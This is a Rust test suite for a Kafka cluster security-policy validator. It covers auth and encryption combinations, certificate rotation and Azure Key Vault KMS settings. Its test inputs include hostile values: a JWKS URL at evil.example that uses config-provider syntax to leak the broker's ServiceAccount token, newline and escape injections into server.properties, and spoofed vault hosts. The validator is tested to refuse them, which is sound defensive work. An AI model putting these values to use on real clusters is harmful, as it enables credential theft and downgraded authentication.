//! Every row of the MSK seed's authentication × encryption table and every other rule of API.md,
//! valid and invalid, through the shared validation module.

use cluster_security_api::validate::{self, rule};
use cluster_security_api::{
    CertificateRotationSpec, ClusterRef, ClusterSecurityPolicySpec, KmsKeyVaultModeSpec, WorkloadKind,
};
use serde_json::{json, Value};

fn csp(auth: Value, client_broker: &str, in_cluster: bool) -> ClusterSecurityPolicySpec {
    serde_json::from_value(json!({
        "clusterRef": {"kind": "StatefulSet", "name": "orders-kafka"},
        "clientAuthentication": auth,
        "encryptionInTransit": {"clientBroker": client_broker, "inCluster": in_cluster}
    }))
    .unwrap()
}

/// SASL/IAM with everything a broker checks a token against.
static IAM: std::sync::LazyLock<Value> = std::sync::LazyLock::new(|| {
    json!({"enabled": true, "issuer": "https://login.example.com/t", "audience": "kafka",
           "jwksEndpointUrl": "https://login.example.com/t/keys"})
});

fn method(name: &str) -> Value {
    match name {
        "unauthenticated" => json!({"unauthenticated": {"enabled": true}}),
        "tls" => json!({"tls": {"enabled": true}}),
        "scram" => json!({"sasl": {"scram": {"enabled": true}}}),
        "iam" => json!({"sasl": {"iam": IAM.clone()}}),
        _ => unreachable!(),
    }
}

/// The seed's table: (method, allowed client-broker settings, in-cluster must be on).
const TABLE: &[(&str, &[&str], bool)] = &[
    ("unauthenticated", &["TLS", "PLAINTEXT", "TLS_PLAINTEXT"], false),
    ("tls", &["TLS", "TLS_PLAINTEXT"], true),
    ("scram", &["TLS"], true),
    ("iam", &["TLS"], true),
];
const ALL_CLIENT_BROKER: &[&str] = &["TLS", "TLS_PLAINTEXT", "PLAINTEXT"];

#[test]
fn every_cell_of_the_seed_table() {
    let mut checked = 0;
    for (m, allowed, needs_in_cluster) in TABLE {
        for cb in ALL_CLIENT_BROKER {
            for in_cluster in [true, false] {
                let result = validate::security_policy(&csp(method(m), cb, in_cluster), None);
                let expect_ok = allowed.contains(cb) && (in_cluster || !needs_in_cluster);
                assert_eq!(result.is_ok(), expect_ok, "{m} clientBroker={cb} inCluster={in_cluster}: {result:?}");
                if let Err(v) = result {
                    assert!(v.rules().iter().all(|r| *r == rule::AUTH_ENCRYPTION_TABLE), "{v}");
                    let text = v.to_string();
                    assert!(text.contains("AuthenticationEncryptionCompatibility"), "message names the rule: {text}");
                }
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 24);
}

#[test]
fn several_methods_must_all_allow_the_combination() {
    let both = json!({"unauthenticated": {"enabled": true}, "tls": {"enabled": true}});
    assert!(validate::security_policy(&csp(both.clone(), "TLS_PLAINTEXT", true), None).is_ok());
    let err = validate::security_policy(&csp(both.clone(), "PLAINTEXT", true), None).unwrap_err();
    assert!(
        err.to_string()
            .contains("mTLS authentication allows client-broker encryption TLS or TLS_PLAINTEXT, not PLAINTEXT"),
        "{err}"
    );
    let err = validate::security_policy(&csp(both, "TLS", false), None).unwrap_err();
    assert!(err.to_string().contains("spec.encryptionInTransit.inCluster"), "{err}");
    let scram_tls = json!({"tls": {"enabled": true}, "sasl": {"scram": {"enabled": true}}});
    assert!(validate::security_policy(&csp(scram_tls.clone(), "TLS", true), None).is_ok());
    assert!(validate::security_policy(&csp(scram_tls, "TLS_PLAINTEXT", true), None).is_err());
}

#[test]
fn at_least_one_method() {
    for auth in [json!({}), json!({"tls": {"enabled": false}, "sasl": {"scram": {"enabled": false}}})] {
        let err = validate::security_policy(&csp(auth, "TLS", true), None).unwrap_err();
        assert_eq!(err.rules(), vec![rule::AUTH_REQUIRED]);
        assert!(err.to_string().contains("enable at least one of"), "{err}");
    }
}

#[test]
fn defaults_are_tls_and_in_cluster_on() {
    let spec: ClusterSecurityPolicySpec = serde_json::from_value(json!({
        "clusterRef": {"kind": "Deployment", "name": "k"},
        "clientAuthentication": {"sasl": {"iam": *IAM}}
    }))
    .unwrap();
    assert_eq!(spec.encryption_in_transit.client_broker.as_str(), "TLS");
    assert!(spec.encryption_in_transit.in_cluster);
    assert_eq!(spec.rollout_timeout_seconds, 600);
    assert!(validate::security_policy(&spec, None).is_ok());
}

/// SASL/IAM is refused without what the brokers check each token against, and with a key set
/// that is not fetched over https from a named host.
#[test]
fn iam_needs_issuer_audience_and_an_https_key_set() {
    let with = |patch: Value| {
        let mut iam = IAM.clone();
        for (k, v) in patch.as_object().unwrap() {
            iam[k] = v.clone();
        }
        validate::security_policy(&csp(json!({"sasl": {"iam": iam}}), "TLS", true), None)
    };
    assert!(with(json!({})).is_ok());
    let cases = [
        (json!({"issuer": null}), "spec.clientAuthentication.sasl.iam.issuer", "issuer is not set"),
        (json!({"audience": " "}), "spec.clientAuthentication.sasl.iam.audience", "audience is not set"),
        (
            json!({"jwksEndpointUrl": null}),
            "spec.clientAuthentication.sasl.iam.jwksEndpointUrl",
            "jwksEndpointUrl is not set",
        ),
        (
            json!({"jwksEndpointUrl": "http://idp/keys"}),
            "spec.clientAuthentication.sasl.iam.jwksEndpointUrl",
            "must be an https URL",
        ),
        (
            json!({"jwksEndpointUrl": "https://u:p@idp/keys"}),
            "spec.clientAuthentication.sasl.iam.jwksEndpointUrl",
            "no user information",
        ),
    ];
    for (patch, field, says) in cases {
        let err = with(patch.clone()).expect_err(&format!("{patch} is refused"));
        assert_eq!(err.rules(), vec![rule::IAM_TOKEN_VALIDATION], "{patch}");
        assert_eq!(err.0[0].field, field, "{patch}");
        assert!(err.to_string().contains(says), "{patch}: {err}");
    }
    // Disabled, nothing is required.
    assert!(validate::security_policy(
        &csp(json!({"tls": {"enabled": true}, "sasl": {"iam": {"enabled": false}}}), "TLS", true),
        None
    )
    .is_ok());
}

#[test]
fn in_cluster_is_immutable_on_update() {
    let old = csp(method("unauthenticated"), "PLAINTEXT", true);
    let new = csp(method("unauthenticated"), "PLAINTEXT", false);
    assert!(validate::security_policy(&new, None).is_ok(), "valid on create");
    let err = validate::security_policy(&new, Some(&old)).unwrap_err();
    assert_eq!(err.rules(), vec![rule::IN_CLUSTER_IMMUTABLE]);
    assert!(err.to_string().contains("you can't change the in-cluster (broker-to-broker) encryption setting"), "{err}");
    // Changing other settings on update is fine.
    let other = csp(method("unauthenticated"), "TLS", true);
    assert!(validate::security_policy(&other, Some(&old)).is_ok());
}

#[test]
fn names_and_timeouts() {
    let spec: ClusterSecurityPolicySpec = serde_json::from_value(json!({
        "clusterRef": {"kind": "StatefulSet", "name": "Orders_Kafka"},
        "clientAuthentication": {"tls": {"enabled": true, "certificateAuthoritySecretRefs": [{"name": "bad name"}]}},
        "rolloutTimeoutSeconds": 0
    }))
    .unwrap();
    let err = validate::security_policy(&spec, None).unwrap_err();
    assert_eq!(err.rules(), vec![rule::CLUSTER_REF, rule::ROLLOUT_TIMEOUT, rule::SECRET_REF]);
}

fn certrot(v: Value) -> CertificateRotationSpec {
    let mut base = json!({"clusterRef": {"kind": "StatefulSet", "name": "orders-kafka"}});
    base.as_object_mut().unwrap().extend(v.as_object().unwrap().clone());
    serde_json::from_value(base).unwrap()
}

fn b64(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

#[test]
fn certificate_rotation_rules() {
    let pem = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
    let cases: Vec<(Value, Option<&str>, &str)> = vec![
        (
            json!({"external": {"label": "upgradedlabel1"}, "internal": {"label": "internal1"}}),
            None,
            "self-signed both",
        ),
        (json!({"external": {"label": "a", "type": "secret", "secretName": "my-certs"}}), None, "secret with name"),
        (
            json!({"external": {"label": "a", "type": "secret", "secretName": "my-certs", "rollOnSourceChange": true}}),
            None,
            "secret that rolls on change",
        ),
        (
            json!({"external": {"label": "a", "rollOnSourceChange": true}}),
            Some(rule::TYPE_FIELDS),
            "rollOnSourceChange on a self-signed certificate",
        ),
        (
            json!({"external": {"label": "a", "type": "provided", "key": b64(pem), "cert": b64(pem), "cacert": b64(pem)}}),
            None,
            "provided",
        ),
        (json!({}), Some(rule::CERTIFICATE_REQUIRED), "neither certificate"),
        (json!({"external": {"label": "has space"}}), Some(rule::LABEL_VALUE), "space in label"),
        (json!({"external": {"label": "-lead"}}), Some(rule::LABEL_VALUE), "label starts with dash"),
        (json!({"external": {"label": "x".repeat(64)}}), Some(rule::LABEL_VALUE), "label too long"),
        (json!({"external": {"label": ""}}), Some(rule::LABEL_VALUE), "empty label"),
        (json!({"internal": {"label": "a", "type": "provided"}}), Some(rule::INTERNAL_SELFSIGNED), "internal provided"),
        (json!({"internal": {"label": "a", "type": "secret"}}), Some(rule::INTERNAL_SELFSIGNED), "internal secret"),
        (json!({"external": {"label": "a", "type": "secret"}}), Some(rule::TYPE_FIELDS), "secret without name"),
        (
            json!({"external": {"label": "a", "type": "provided", "cert": b64(pem), "cacert": b64(pem)}}),
            Some(rule::TYPE_FIELDS),
            "provided without key",
        ),
        (
            json!({"external": {"label": "a", "type": "provided", "key": "%%%", "cert": b64(pem), "cacert": b64(pem)}}),
            Some(rule::TYPE_FIELDS),
            "provided not base64",
        ),
        (
            json!({"external": {"label": "a", "type": "provided", "key": b64("hello"), "cert": b64(pem), "cacert": b64(pem)}}),
            Some(rule::TYPE_FIELDS),
            "provided not PEM",
        ),
        (json!({"external": {"label": "a", "secretName": "x"}}), Some(rule::TYPE_FIELDS), "selfsigned with secretName"),
        (json!({"external": {"label": "a", "dnsNames": ["bad_name"]}}), Some(rule::DNS_NAMES), "bad SAN"),
        (json!({"external": {"label": "a", "dnsNames": ["*.orders.svc"]}}), None, "wildcard SAN"),
        (json!({"external": {"label": "a", "validityDays": 0}}), Some(rule::VALIDITY), "zero validity"),
    ];
    for (spec, expected, what) in cases {
        let result = validate::certificate_rotation(&certrot(spec));
        match expected {
            None => assert!(result.is_ok(), "{what}: {result:?}"),
            Some(r) => {
                let err = result.unwrap_err();
                assert!(err.rules().contains(&r), "{what}: expected {r}, got {err}");
                assert!(err.to_string().contains(r), "{what}: message names the rule: {err}");
            }
        }
    }
}

#[test]
fn provided_key_material_is_never_echoed() {
    let secret = b64("-----BEGIN PRIVATE KEY-----\nSECRETMARKER\n-----END PRIVATE KEY-----\n");
    let spec = certrot(json!({"external": {"label": "a", "type": "provided", "key": secret.clone()}}));
    let err = validate::certificate_rotation(&spec).unwrap_err().to_string();
    assert!(!err.contains(&secret) && !err.contains("SECRETMARKER"), "{err}");
}

fn kms(v: Value) -> KmsKeyVaultModeSpec {
    let mut base = json!({
        "networkAccess": "Private",
        "keyId": "https://orders-kv.vault.azure.net/keys/etcd/0123abcd",
        "keyVaultResourceId": "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/orders-kv",
        "provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "rg", "clusterName": "aks"}}
    });
    base.as_object_mut().unwrap().extend(v.as_object().unwrap().clone());
    serde_json::from_value(base).unwrap()
}

#[test]
fn kms_key_vault_mode_rules() {
    let cases: Vec<(Value, Option<&str>, &str)> = vec![
        (json!({}), None, "private with resource id"),
        (json!({"networkAccess": "Public", "keyVaultResourceId": null}), None, "public without resource id"),
        (json!({"keyVaultResourceId": null}), Some(rule::KEY_VAULT_RESOURCE_ID), "private without resource id"),
        (json!({"keyId": "http://orders-kv.vault.azure.net/keys/etcd/1"}), Some(rule::KEY_ID), "not https"),
        (json!({"keyId": "https://orders-kv.vault.azure.net/keys/etcd"}), Some(rule::KEY_ID), "no version"),
        (json!({"keyId": "https://orders-kv.example.com/keys/etcd/1"}), Some(rule::KEY_ID), "not a vault host"),
        (json!({"keyId": "https://orders-kv.vault.azure.net/secrets/etcd/1"}), Some(rule::KEY_ID), "secrets path"),
        (
            json!({"keyVaultResourceId": "/subscriptions/x/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/orders-kv"}),
            Some(rule::KEY_VAULT_RESOURCE_ID),
            "subscription not a GUID",
        ),
        (
            json!({"keyVaultResourceId": "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.Storage/vaults/orders-kv"}),
            Some(rule::KEY_VAULT_RESOURCE_ID),
            "wrong provider",
        ),
        (
            json!({"keyVaultResourceId": "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/other-kv"}),
            Some(rule::KEY_VAULT_MATCH),
            "vault mismatch",
        ),
        (json!({"provider": {}}), Some(rule::PROVIDER), "no provider"),
        (
            json!({"provider": {"azure": {"subscriptionId": "nope", "resourceGroup": "rg", "clusterName": "aks"}}}),
            Some(rule::AZURE_NAMES),
            "bad subscription",
        ),
        (
            json!({"provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "rg/../../x", "clusterName": "aks"}}}),
            Some(rule::AZURE_NAMES),
            "resource group with a path",
        ),
        (
            json!({"provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "rg.", "clusterName": "aks"}}}),
            Some(rule::AZURE_NAMES),
            "resource group ending in a period",
        ),
        (
            json!({"provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "my_rg-(prod).1", "clusterName": "aks_1-b"}}}),
            None,
            "every character Azure allows",
        ),
        (
            json!({"provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "rg", "clusterName": "aks?api-version=1"}}}),
            Some(rule::AZURE_NAMES),
            "cluster name with a query",
        ),
        (
            json!({"provider": {"azure": {"subscriptionId": "00000000-1111-2222-3333-444444444444", "resourceGroup": "rg", "clusterName": "-aks"}}}),
            Some(rule::AZURE_NAMES),
            "cluster name starting with a dash",
        ),
        (json!({"keyId": "https://user@orders-kv.vault.azure.net/keys/etcd/1"}), Some(rule::KEY_ID), "user info"),
        (json!({"keyId": "https://orders-kv.vault.azure.net:8443/keys/etcd/1"}), Some(rule::KEY_ID), "a port"),
        (json!({"keyId": "https://orders-kv.vault.evil.example/keys/etcd/1"}), Some(rule::KEY_ID), "another host"),
        (
            json!({"keyId": "https://orders-kv.vault.azure.net.evil.example/keys/etcd/1"}),
            Some(rule::KEY_ID),
            "suffix as a prefix",
        ),
        (json!({"keyId": "https://orders-kv.vault.azure.net/keys/etcd/1?x=1"}), Some(rule::KEY_ID), "a query"),
        (json!({"keyId": "https://orders-kv.vault.azure.net/keys/etcd/1#f"}), Some(rule::KEY_ID), "a fragment"),
        (
            json!({"keyId": "https://orders-kv.VAULT.AZURE.NET/keys/etcd/1", "keyVaultResourceId": null, "networkAccess": "Public"}),
            None,
            "host case does not matter",
        ),
        (json!({"reencryption": {"concurrency": 0}}), Some(rule::REENCRYPTION), "zero concurrency"),
        (json!({"reencryption": {"pageSize": 100000}}), Some(rule::REENCRYPTION), "huge page"),
        (json!({"rollbackAfterSeconds": 5}), Some(rule::ROLLBACK_AFTER), "KMS off deadline too short to switch"),
        (json!({"rollbackAfterSeconds": 600}), None, "a ten-minute KMS off deadline"),
    ];
    for (spec, expected, what) in cases {
        let result = validate::kms_key_vault_mode(&kms(spec), validate::DEFAULT_VAULT_DNS_SUFFIX);
        match expected {
            None => assert!(result.is_ok(), "{what}: {result:?}"),
            Some(r) => {
                let err = result.unwrap_err();
                assert!(err.rules().contains(&r), "{what}: expected {r}, got {err}");
            }
        }
    }
    let kafka = ClusterRef { kind: WorkloadKind::StatefulSet, name: "kafka".into() };
    let other = ClusterRef { kind: WorkloadKind::StatefulSet, name: "kafka-b".into() };
    assert!(validate::cluster_ref_unchanged("ClusterSecurityPolicy", &kafka, &kafka).is_ok());
    let moved = validate::cluster_ref_unchanged("ClusterSecurityPolicy", &other, &kafka).unwrap_err();
    assert_eq!(moved.rules(), vec![rule::CLUSTER_REF_IMMUTABLE]);
    assert!(validate::one_per_workload("CertificateRotation", &kafka, [("b", &other)]).is_ok());
    let twice = validate::one_per_workload("CertificateRotation", &kafka, [("b", &other), ("a", &kafka)]).unwrap_err();
    assert_eq!(twice.rules(), vec![rule::ONE_PER_WORKLOAD]);
    assert!(twice.to_string().contains("\"a\" already targets"), "{twice}");

    let mine = kms(json!({}));
    let mut other_cluster = kms(json!({}));
    other_cluster.provider.azure.as_mut().unwrap().cluster_name = "payments-aks".into();
    let mut same_other_case = kms(json!({}));
    let az = same_other_case.provider.azure.as_mut().unwrap();
    az.resource_group = az.resource_group.to_uppercase();
    assert!(validate::one_per_cluster(&mine, [("payments", &other_cluster)]).is_ok(), "another cluster");
    let err =
        validate::one_per_cluster(&mine, [("payments", &other_cluster), ("orders", &same_other_case)]).unwrap_err();
    assert_eq!(err.rules(), vec![rule::ONE_PER_CLUSTER]);
    assert!(err.to_string().contains("\"orders\" already manages"), "{err}");

    let parsed = validate::parse_key_id("https://orders-kv.vault.azure.net/keys/etcd/0123abcd").unwrap();
    assert_eq!((parsed.vault, parsed.name, parsed.version), ("orders-kv", "etcd", "0123abcd"));

    // Another cloud: its suffix is configured, and the public cloud's is then refused.
    let china = kms(
        json!({"keyId": "https://orders-kv.vault.azure.cn/keys/etcd/1", "keyVaultResourceId": null, "networkAccess": "Public"}),
    );
    assert!(validate::kms_key_vault_mode(&china, "vault.azure.cn").is_ok());
    let err = validate::kms_key_vault_mode(&china, validate::DEFAULT_VAULT_DNS_SUFFIX).unwrap_err();
    assert_eq!(err.rules(), vec![rule::KEY_ID]);
    assert!(err.to_string().contains("--azure-key-vault-dns-suffix"), "{err}");
}

/// Every rule is enforced somewhere, and every refusal names the rule it enforces and the field.
#[test]
fn every_rule_is_reachable_and_named_in_its_message() {
    use std::collections::BTreeSet;
    let pem = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n";
    let key = "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n";
    let kafka = ClusterRef { kind: WorkloadKind::StatefulSet, name: "kafka".into() };
    let other = ClusterRef { kind: WorkloadKind::StatefulSet, name: "kafka-b".into() };
    let mut old_in_cluster = csp(method("unauthenticated"), "TLS", true);
    old_in_cluster.encryption_in_transit.in_cluster = false;
    let mut bad_ref = csp(method("tls"), "TLS", true);
    bad_ref.cluster_ref.name = "Bad_Name".into();
    let mut bad_secret_ref =
        csp(json!({"tls": {"enabled": true, "certificateAuthoritySecretRefs": [{"name": "Bad_Name"}]}}), "TLS", true);
    bad_secret_ref.rollout_timeout_seconds = 0;
    let mut bad_controller = csp(method("tls"), "TLS", true);
    bad_controller.controller_listener = serde_json::from_value(json!({"name": "REPLICATION", "port": 9094})).unwrap();
    let kms_spec = kms(json!({}));
    let bad_clients = csp(
        json!({"tls": {"enabled": false, "clients": [{"name": "a,b", "secretName": "kafka-security"}]}}),
        "TLS",
        true,
    );
    let refusals = vec![
        validate::security_policy(&bad_controller, None),
        validate::security_policy(&bad_clients, None),
        validate::security_policy(&csp(json!({}), "TLS", true), None),
        validate::security_policy(&csp(method("scram"), "PLAINTEXT", true), None),
        validate::security_policy(&csp(method("unauthenticated"), "TLS", true), Some(&old_in_cluster)),
        validate::security_policy(&bad_ref, None),
        validate::security_policy(&bad_secret_ref, None),
        validate::security_policy(&csp(json!({"sasl": {"iam": {"enabled": true}}}), "TLS", true), None),
        validate::certificate_rotation(&certrot(
            json!({"external": {"label": "a"}, "mounts": {"container": "Kafka_1"}}),
        )),
        validate::certificate_rotation(&certrot(json!({}))),
        validate::certificate_rotation(&certrot(json!({"internal": {"label": "a"},
            "ca": {"validityDays": 30, "renewalDays": 30}, "maintenanceWindows": ["* 25 * * *"],
            "trustDistribution": {"namespaces": ["Bad_Ns"]}}))),
        validate::certificate_rotation(&certrot(
            json!({"external": {"label": "no space", "validityDays": 0, "dnsNames": ["a_b"]}}),
        )),
        validate::certificate_rotation(&certrot(json!({"internal": {"label": "a", "type": "secret"}}))),
        validate::certificate_rotation(&certrot(json!({"external": {"label": "a", "type": "secret"}}))),
        validate::certificate_rotation(&certrot(json!({"external": {"label": "a", "type": "provided",
            "key": b64(key), "cert": b64(pem), "cacert": b64(&format!("{pem}{key}"))}}))),
        validate::kms_key_vault_mode(&kms(json!({"keyId": "https://x"})), validate::DEFAULT_VAULT_DNS_SUFFIX),
        validate::kms_key_vault_mode(&kms(json!({"keyVaultResourceId": "/x"})), validate::DEFAULT_VAULT_DNS_SUFFIX),
        validate::kms_key_vault_mode(
            &kms(
                json!({"keyVaultResourceId": "/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/other-kv"}),
            ),
            validate::DEFAULT_VAULT_DNS_SUFFIX,
        ),
        validate::kms_key_vault_mode(
            &kms(json!({"provider": {}, "rollbackAfterSeconds": 1, "reencryption": {"concurrency": 0}})),
            validate::DEFAULT_VAULT_DNS_SUFFIX,
        ),
        validate::kms_key_vault_mode(
            &kms(json!({"provider": {"azure": {"subscriptionId": "x", "resourceGroup": "rg", "clusterName": "aks"}}})),
            validate::DEFAULT_VAULT_DNS_SUFFIX,
        ),
        validate::one_per_cluster(&kms_spec, [("orders", &kms_spec)]),
        validate::cluster_ref_unchanged("CertificateRotation", &other, &kafka),
        validate::one_per_workload("CertificateRotation", &kafka, [("a", &kafka)]),
        validate::security_policy(&smuggling_jwks(), None),
        validate::security_policy(&client_named("orders-kafka", "app-tls"), None),
    ];
    let mut reached = BTreeSet::new();
    for result in refusals {
        let err = result.expect_err("each case breaks a rule");
        for v in &err.0 {
            assert!(rule::ALL.contains(&v.rule), "{} is not listed in rule::ALL", v.rule);
            let shown = v.to_string();
            assert!(shown.contains(&format!("(rule {})", v.rule)), "names its rule: {shown}");
            assert!(shown.starts_with(&v.field) && v.field.starts_with("spec"), "names the field: {shown}");
            reached.insert(v.rule);
        }
    }
    let missed: Vec<_> = rule::ALL.iter().filter(|r| !reached.contains(*r)).collect();
    assert!(missed.is_empty(), "rules no case reaches: {missed:?}");
}

/// SASL/IAM whose key-set URL carries Kafka's config-provider syntax: the brokers would read
/// their ServiceAccount token into the URL they fetch.
fn smuggling_jwks() -> ClusterSecurityPolicySpec {
    csp(
        json!({"sasl": {"iam": {"enabled": true, "issuer": "https://issuer", "audience": "kafka",
            "jwksEndpointUrl": "https://evil.example/k?t=${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}"}}}),
        "TLS",
        true,
    )
}

fn client_named(name: &str, secret: &str) -> ClusterSecurityPolicySpec {
    csp(json!({"tls": {"enabled": true, "clients": [{"name": name, "secretName": secret}]}}), "TLS", true)
}

#[test]
fn config_provider_syntax_never_reaches_server_properties() {
    let err = validate::security_policy(&smuggling_jwks(), None).unwrap_err().to_string();
    assert!(err.contains("PropertiesValueSyntax") && err.contains("sasl.iam.jwksEndpointUrl"), "{err}");
    for field in ["issuer", "audience"] {
        let mut spec = csp(method("iam"), "TLS", true);
        let iam = spec.client_authentication.sasl.as_mut().unwrap().iam.as_mut().unwrap();
        let value = if field == "issuer" { &mut iam.issuer } else { &mut iam.audience };
        *value = Some("x${env:HOME}".into());
        let err = validate::security_policy(&spec, None).unwrap_err().to_string();
        assert!(err.contains("PropertiesValueSyntax") && err.contains(&format!("sasl.iam.{field}")), "{err}");
    }
    assert!(validate::security_policy(&csp(method("iam"), "TLS", true), None).is_ok(), "plain values pass");
}

#[test]
fn a_client_never_gets_the_brokers_name_nor_another_clusters_object() {
    for name in ["orders-kafka", "ORDERS-KAFKA"] {
        let err = validate::security_policy(&client_named(name, "app-tls"), None).unwrap_err().to_string();
        assert!(err.contains("ClientNotBroker") && err.contains("tls.clients[0].name"), "{err}");
    }
    let err =
        validate::security_policy(&client_named("app", "other-kafka-internal-tls"), None).unwrap_err().to_string();
    assert!(err.contains("TlsClients") && err.contains("-internal-tls"), "{err}");
    assert!(validate::security_policy(&client_named("orders-app", "orders-app-tls"), None).is_ok());
}

/// Every syntax that changes how `server.properties` is read is refused in every value that
/// reaches it (rule PropertiesValueSyntax), naming the field and the fix: a line break (a
/// property of its own), a backslash (an escape: `\u0024{` reads as `${`, a trailing one joins
/// the next line), white space and control characters, what is not ASCII (the file is read as
/// ISO-8859-1), and `${` (config providers).
#[test]
fn nothing_that_changes_how_server_properties_is_read() {
    let cases = [
        ("issuer", "https://idp/t\nsasl.enabled.mechanisms=PLAIN", "a line break"),
        ("issuer", "https://idp/t\rsasl.enabled.mechanisms=PLAIN", "a line break"),
        ("audience", "kafka\\", "a backslash"),
        (
            "jwksEndpointUrl",
            "https://idp/k?t=\\u0024{dir:/var/run/secrets/kubernetes.io/serviceaccount:token}",
            "a backslash",
        ),
        ("audience", "a b", "white space"),
        ("audience", "kafka\t", "white space"),
        ("issuer", "https://idp/t\u{0}", "a control character"),
        ("issuer", "https://idp/t\u{2028}x", "white space"),
        ("audience", "kafkä", "not ASCII"),
        ("jwksEndpointUrl", "https://idp/k?t=${env:HOME}", "config-provider syntax"),
    ];
    for (field, value, says) in cases {
        let mut spec = csp(method("iam"), "TLS", true);
        let iam = spec.client_authentication.sasl.as_mut().unwrap().iam.as_mut().unwrap();
        *match field {
            "issuer" => &mut iam.issuer,
            "audience" => &mut iam.audience,
            _ => &mut iam.jwks_endpoint_url,
        } = Some(value.into());
        let err = validate::security_policy(&spec, None).expect_err(&format!("{field} {value:?} is refused"));
        assert_eq!(err.rules(), vec![rule::PROPERTIES_VALUE], "{field} {value:?}: {err}");
        assert_eq!(err.0[0].field, format!("spec.clientAuthentication.sasl.iam.{field}"));
        let text = err.to_string();
        assert!(text.contains(says) && text.contains("(rule PropertiesValueSyntax)"), "{value:?}: {text}");
        assert!(text.contains("give the value"), "says the fix: {text}");
        assert!(validate::properties_value_error(value).is_some());
    }
    for fine in ["https://login.example.com/t/keys?x=1&y=%24%7B", "kafka", "api://a-b_c.d:e/f"] {
        assert_eq!(validate::properties_value_error(fine), None, "{fine}");
    }
}

/// A client named like the brokers' certificates in any form: the name itself, in any case, or a
/// DNS name under it (the names in their certificates); a name that merely starts alike is fine.
#[test]
fn client_not_broker_in_any_form() {
    for name in ["orders-kafka", "Orders-Kafka", "orders-kafka.kafka.svc", "ORDERS-KAFKA.kafka.svc.cluster.local"] {
        let err = validate::security_policy(&client_named(name, "app-tls"), None).unwrap_err();
        assert_eq!(err.rules(), vec![rule::CLIENT_NOT_BROKER], "{name}: {err}");
        assert!(err.to_string().contains("give the client a name of its own"), "{err}");
    }
    for name in ["orders-kafka-app", "orders-kafkax", "team-a.orders-kafka"] {
        assert!(validate::security_policy(&client_named(name, "app-tls"), None).is_ok(), "{name}");
    }
    assert!(validate::names_broker("kafka-brokers.ns.svc", "kafka-brokers"));
    assert!(!validate::names_broker("anything", ""), "no service: nothing to compare");
}
